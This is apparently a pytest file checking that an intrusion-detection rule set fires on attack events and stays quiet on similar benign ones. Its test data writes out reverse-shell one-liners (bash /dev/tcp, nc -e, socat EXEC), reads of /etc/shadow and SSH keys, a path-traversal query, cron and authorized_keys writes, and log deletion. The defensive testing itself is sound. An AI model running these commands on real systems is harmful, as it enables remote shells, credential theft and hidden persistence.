"""Every default rule: fires on the attack, stays silent on a close benign event."""

from __future__ import annotations

import pytest

from sentinel_stack.detect.rules_loader import load_rules
from sentinel_stack.probe import events as ev
from tests.detect.detectkit import (
    DEMO,
    LAUNCHER_A,
    PROXY,
    PROXY_A,
    RULES_DIR,
    T0,
    access,
    alerts,
    connect,
    engine,
    exec_,
    file_change,
    fired,
    kernel,
    open_,
    probe_alert,
    state,
    under_demo,
)

CONTRACT_IDS = {
    "web_server_spawned_shell",
    "web_server_unexpected_child",
    "reverse_shell_socket_stdio",
    "reverse_shell_dev_tcp",
    "reverse_shell_netcat_exec",
    "sensitive_file_read",
    "traversal_read",
    "setuid_bit_set",
    "privilege_change",
    "fileless_exec_memfd",
    "exec_from_tmp_or_shm",
    "network_tool_run",
    "ptrace_attach",
    "cron_write",
    "authorized_keys_write",
    "log_tampering",
    "loopback_port_scan",
    "upstream_ssrf",
    "probe_event_loss",
    "crash_loop",
}
O_WRONLY, O_CREAT, O_TRUNC, O_APPEND = 0o1, 0o100, 0o1000, 0o2000
SH = ev.Ancestor(pid=1233, comm="sh", exe="/usr/bin/dash")


def test_the_default_set_has_exactly_the_contract_ids() -> None:
    ruleset = load_rules(
        RULES_DIR, {"stack_upstreams": [], "stack_agents": [], "stack_children": []}
    )
    assert {rule.id for rule in ruleset.rules} == CONTRACT_IDS
    for rule in ruleset.rules:
        assert rule.enabled and rule.description and rule.output.parts, rule.id
        if rule.technique:
            assert f"attack.{rule.technique}" in rule.tags


def test_web_server_spawned_shell() -> None:
    eng = engine()
    bad = exec_(["/bin/sh", "-c", "id; uname -a"], exe="/usr/bin/dash", comm="sh")
    assert "web_server_spawned_shell" in fired(eng, bad)
    # The same shell started by the proxy (not an upstream), or by the launcher, is not it.
    by_proxy = exec_(["/bin/sh", "-c", "id"], comm="sh", lineage=[PROXY_A, LAUNCHER_A])
    by_launcher = exec_(["/bin/sh", "-c", "x"], comm="sh", lineage=[LAUNCHER_A])
    nested = exec_(["bash", "-c", "id"], comm="bash", lineage=under_demo(SH))
    assert "web_server_spawned_shell" not in fired(eng, by_proxy, by_launcher, nested)


def test_web_server_spawned_shell_by_name_outside_the_stack() -> None:
    eng = engine()
    bad = exec_(["sh"], comm="sh", pid=9, lineage=[ev.Ancestor(pid=8, comm="nginx")])
    benign = exec_(["sh"], comm="sh", pid=9, lineage=[ev.Ancestor(pid=8, comm="cron")])
    assert fired(eng, bad) == ["web_server_spawned_shell"]
    assert fired(eng, benign) == []


def test_web_server_unexpected_child() -> None:
    eng = engine()
    assert "web_server_unexpected_child" in fired(eng, exec_(["/usr/bin/id"]))
    worker = exec_(["/usr/bin/python3.11", "-c", "from multiprocessing..."])
    after_shell = exec_(["/usr/bin/id"], lineage=under_demo(SH))
    assert "web_server_unexpected_child" not in fired(eng, worker, after_shell)


def test_reverse_shell_socket_stdio() -> None:
    eng = engine()
    dup = kernel(ev.DupSocketEvent, comm="bash", oldfd=3, newfd=1)
    assert fired(eng, dup) == ["reverse_shell_socket_stdio"]
    inetd = kernel(ev.DupSocketEvent, comm="inetd", oldfd=3, newfd=0)
    assert fired(eng, inetd) == []


def test_reverse_shell_dev_tcp() -> None:
    eng = engine()
    bad = exec_(
        ["/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"], lineage=[LAUNCHER_A]
    )
    benign = exec_(["/bin/bash", "-c", "ls /dev/tty"], lineage=[LAUNCHER_A])
    assert "reverse_shell_dev_tcp" in fired(eng, bad)
    assert "reverse_shell_dev_tcp" not in fired(eng, benign)


@pytest.mark.parametrize(
    "argv",
    [
        ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        ["ncat", "--sh-exec", "sh", "10.0.0.1", "4444"],
        ["nc", "-nve", "/bin/sh", "10.0.0.1", "4444"],
        ["socat", "TCP:10.0.0.1:4444", "EXEC:/bin/sh,pty"],
    ],
)
def test_reverse_shell_netcat_exec(argv: list[str]) -> None:
    eng = engine()
    assert "reverse_shell_netcat_exec" in fired(eng, exec_(argv, lineage=[LAUNCHER_A]))


def test_netcat_without_exec_is_not_a_reverse_shell() -> None:
    eng = engine()
    plain = exec_(["nc", "-zv", "127.0.0.1", "80"], lineage=[LAUNCHER_A])
    socat = exec_(["socat", "TCP-LISTEN:80", "TCP:10.0.0.1:80"], lineage=[LAUNCHER_A])
    assert "reverse_shell_netcat_exec" not in fired(eng, plain, socat)


def test_sensitive_file_read() -> None:
    eng = engine()
    shadow = open_("/etc/shadow", reasons=("sensitive",), comm="wc", result=-13)
    key = open_("/root/.ssh/id_ed25519", reasons=("sensitive",))
    assert fired(eng, shadow, key) == ["sensitive_file_read"] * 2
    public = open_("/root/.ssh/id_ed25519.pub", reasons=("sensitive",))
    by_sudo = open_("/etc/sudoers", reasons=("sensitive",), comm="sudo")
    assert fired(eng, public, by_sudo) == []


def test_traversal_read_joins_the_request_and_the_read_in_either_order() -> None:
    eng = engine()
    request = access("/_vuln/file", "path=..%2F..%2F..%2Fetc%2Fpasswd", time=T0)
    read = open_(
        "/srv/www/../../../etc/passwd",
        reasons=("traversal",),
        comm="python3",
        pid=DEMO,
        lineage=[LAUNCHER_A],
        time=T0 + 0.01,
    )
    assert fired(eng, read, request) == ["traversal_read"]
    found = fired(engine(), request, read)
    assert found == ["traversal_read"]


def test_traversal_read_needs_both_within_the_window() -> None:
    eng = engine()
    request = access("/_vuln/file", "path=../etc/passwd", time=T0)
    late = open_(
        "/srv/../etc/passwd", reasons=("traversal",), pid=DEMO, lineage=[LAUNCHER_A], time=T0 + 30
    )
    assert fired(eng, request, late) == []
    benign_request = access("/api/items", time=T0 + 31)
    read = open_(
        "/srv/../etc/passwd", reasons=("traversal",), pid=DEMO, lineage=[LAUNCHER_A], time=T0 + 31
    )
    assert fired(engine(), benign_request, read) == []


def test_traversal_read_alert_carries_the_client_and_the_chain() -> None:
    eng = engine()
    request = access(
        "/_vuln/file", "path=../../etc/shadow", client_ip="127.0.0.9", request_id="abc"
    )
    read = open_(
        "/srv/../../etc/shadow",
        reasons=("traversal", "sensitive"),
        pid=DEMO,
        comm="python3",
        lineage=[LAUNCHER_A],
        time=T0 + 0.5,
    )
    found = [a for a in alerts(eng, request, read) if a.rule == "traversal_read"]
    assert len(found) == 1
    alert = found[0]
    assert alert.client_ip == "127.0.0.9" and alert.request_id == "abc"
    assert [step.kind for step in alert.chain] == ["access", "kernel.open"]
    assert alert.process is not None and alert.process.pid == DEMO
    assert "127.0.0.9" in alert.summary and "/srv/../../etc/shadow" in alert.summary


def test_setuid_bit_set() -> None:
    eng = engine()
    bad = kernel(ev.ChmodEvent, comm="chmod", path="/tmp/x", mode=0o4755, result=0)
    assert fired(eng, bad) == ["setuid_bit_set"]
    dpkg = kernel(ev.ChmodEvent, comm="dpkg", path="/usr/bin/su", mode=0o4755, result=0)
    sticky = kernel(ev.ChmodEvent, comm="chmod", path="/tmp/d", mode=0o1777, result=0)
    assert fired(eng, dpkg, sticky) == []


def test_privilege_change() -> None:
    eng = engine()
    gain = kernel(
        ev.PrivilegeEvent,
        call="setuid",
        requested=[0],
        old_uid=1000,
        old_euid=0,
        uid=0,
        euid=0,
        result=0,
    )
    setuid_exec = exec_(["/usr/bin/sudo", "id"], uid=1000, euid=0)
    assert "privilege_change" in fired(eng, gain)
    assert "privilege_change" in fired(eng, setuid_exec)
    drop = kernel(
        ev.PrivilegeEvent,
        call="setuid",
        requested=[1000],
        old_uid=0,
        old_euid=0,
        uid=1000,
        euid=1000,
        result=0,
    )
    failed = kernel(
        ev.PrivilegeEvent,
        call="setuid",
        requested=[0],
        old_uid=1000,
        old_euid=1000,
        uid=1000,
        euid=1000,
        result=-1,
    )
    assert fired(eng, drop, failed) == []


def test_fileless_exec_memfd() -> None:
    eng = engine()
    from_proc = exec_(["sentinel-sim-memfd"], exe="/proc/self/fd/3", comm="3")
    fexecve = exec_(["payload"], exe="/dev/fd/4", comm="4")
    assert fired(eng, from_proc).count("fileless_exec_memfd") == 1
    assert fired(eng, fexecve).count("fileless_exec_memfd") == 1
    ordinary = exec_(["/usr/bin/true"], exe="/usr/bin/true", lineage=[LAUNCHER_A])
    assert fired(eng, ordinary) == []


def test_exec_from_tmp_or_shm() -> None:
    eng = engine()
    shm = exec_(["/dev/shm/sentinel-sim-x"], lineage=[LAUNCHER_A])
    tmp = exec_(["/tmp/.x/payload"], lineage=[LAUNCHER_A])
    assert fired(eng, shm, tmp) == ["exec_from_tmp_or_shm"] * 2
    assert fired(eng, exec_(["/usr/bin/tmpreaper"], lineage=[LAUNCHER_A])) == []


def test_network_tool_run() -> None:
    eng = engine()
    assert "network_tool_run" in fired(eng, exec_(["nmap", "-p-", "127.0.0.1"]))
    # The launcher's own exec readiness check (curl) is the stack's business.
    check = exec_(["curl", "-fs", "http://127.0.0.1:8081/healthz"], lineage=[LAUNCHER_A])
    assert fired(eng, check) == []


def test_ptrace_attach() -> None:
    eng = engine()
    attach = kernel(ev.PtraceEvent, request="ATTACH", target_pid=55, result=0)
    assert fired(eng, attach) == ["ptrace_attach"]
    assert fired(eng, kernel(ev.PtraceEvent, request="TRACEME", target_pid=0, result=0)) == []


def test_cron_write() -> None:
    eng = engine()
    write = open_(
        "/tmp/sim/etc/cron.d/sentinel-sim",
        O_WRONLY | O_CREAT | O_TRUNC,
        ("watched_write",),
        comm="sh",
    )
    moved = file_change("rename", "/tmp/x", "/etc/cron.d/evil", comm="mv")
    assert fired(eng, write, moved) == ["cron_write"] * 2
    read = open_("/etc/cron.d/e2scrub_all", 0, comm="cron")
    by_dpkg = open_("/etc/cron.d/x", O_WRONLY | O_CREAT, ("watched_write",), comm="dpkg")
    assert fired(eng, read, by_dpkg) == []


def test_authorized_keys_write() -> None:
    eng = engine()
    append = open_("/tmp/sim/root/.ssh/authorized_keys", O_WRONLY | O_CREAT | O_APPEND, comm="sh")
    assert fired(eng, append) == ["authorized_keys_write"]
    assert fired(eng, open_("/root/.ssh/authorized_keys", 0, comm="sshd")) == []


def test_log_tampering() -> None:
    eng = engine()
    truncate = open_("/tmp/sim/var/log/auth.log", O_WRONLY | O_CREAT | O_TRUNC, comm="sh")
    delete = file_change("unlink", "/var/log/auth.log.1", comm="rm")
    assert fired(eng, truncate, delete) == ["log_tampering"] * 2
    append = open_("/var/log/app.log", O_WRONLY | O_APPEND, comm="python3")
    rotate = file_change("rename", "/var/log/syslog", "/var/log/syslog.1", comm="logrotate")
    assert fired(eng, append, rotate) == []


def test_loopback_port_scan() -> None:
    eng = engine()
    scan = [
        connect("127.0.0.1", port, pid=4321, lineage=under_demo(), time=T0 + i * 0.01, result=-111)
        for i, port in enumerate(range(20, 32))
    ]
    assert fired(eng, *scan).count("loopback_port_scan") == 1
    # The proxy talking to one upstream port, again and again, is traffic.
    again = [connect("127.0.0.1", 8081, pid=PROXY, time=T0 + i * 0.01) for i in range(50)]
    slow = [
        connect("127.0.0.1", 9000 + i, pid=4322, lineage=under_demo(), time=T0 + i * 2.0)
        for i in range(12)
    ]
    assert "loopback_port_scan" not in fired(engine(), *again, *slow)


def test_upstream_ssrf() -> None:
    eng = engine()
    unlisted = connect("127.0.0.1", 39999, pid=DEMO)
    assert fired(eng, unlisted) == ["upstream_ssrf"]
    listed = connect("10.0.0.5", 5432, pid=DEMO)
    everyone_443 = connect("93.184.216.34", 443, pid=DEMO)
    dns = connect("127.0.0.53", 53, pid=DEMO, protocol="udp")
    by_proxy = connect("127.0.0.1", 8081, pid=PROXY)
    assert fired(eng, listed, everyone_443, dns, by_proxy) == []


def test_probe_event_loss() -> None:
    eng = engine()
    assert fired(eng, probe_alert()) == ["probe_event_loss"]
    assert fired(eng, probe_alert(rule="probe.something_else")) == []


def test_crash_loop() -> None:
    eng = engine()
    loop = [state("waf", "backoff", T0 + i) for i in range(3)]
    assert fired(eng, *loop) == ["crash_loop"]
    demo_restarts = [state("demo", "backoff", T0 + i) for i in range(5)]
    spread = [state("proxy", "backoff", T0 + i * 100) for i in range(3)]
    assert fired(engine(), *demo_restarts, *spread) == []
